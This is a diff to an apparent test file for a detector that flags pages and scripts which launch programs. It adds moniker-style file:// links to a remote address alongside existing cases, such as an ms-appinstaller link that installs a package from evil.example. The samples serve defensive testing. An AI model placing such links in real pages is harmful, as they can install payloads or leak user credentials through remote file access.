@@ -50,6 +50,8 @@ STARTING = {
     "installs": page(body='<a href="ms-appinstaller:?source=https://evil.example/a.msix">x</a>'),
     "opens by its moniker": page(body='<a href="file:///\\\\192.0.2.1\\a\\b.rtf!c">x</a>'),
     "a picture by its moniker": page(body='<img src="\\\\\\\\192.0.2.1\\\\a\\\\b.rtf!c">'),
+    "a script by its moniker": script("open(`file://192.0.2.1/a/b.rtf!c`);"),
+    "by a moniker with a sign that ends texts of scripts": page(body='<a href="file://192.0.2.1/a`/b.rtf!c">x</a>'),
     "an image of lines": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><a href="%s"/></svg>'
     % SEARCH.replace("&", "&amp;").encode(),
 }  # fmt: skip
@@ -69,6 +71,8 @@ def test_page_that_starts_something(data: bytes):
         page(body='<a href="https://www.example.org/search:all?q=crumb">x</a>'),
         page(body='<a href="file://server/share/!Important/list.xlsx">x</a>'),
         page(body='<a href="file://server/share/a.b/c!.docx">x</a>'),
+        script("const windows = path === `\\\\` && entry.type !== undefined;"),
+        script("path.replace(`\\\\`, `/`);up=`\\\\`,other=entry.id!==up;"),
         script("var search = 'x'; var o = {search: 1, crumb: 2}; location.href = '/search:1';"),
     ],
 )
